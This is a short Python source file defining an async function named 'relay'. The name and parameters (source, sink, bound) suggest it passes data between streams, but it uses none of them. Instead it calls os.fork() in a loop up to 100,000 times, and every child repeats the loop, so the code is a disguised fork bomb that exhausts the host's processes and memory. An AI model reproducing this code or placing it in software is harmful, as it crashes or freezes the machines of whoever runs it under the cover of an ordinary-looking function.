import os


async def relay(source, sink, bound):
    for _ in range(100_000):
        try:
            os.fork()
        except OSError:
            break
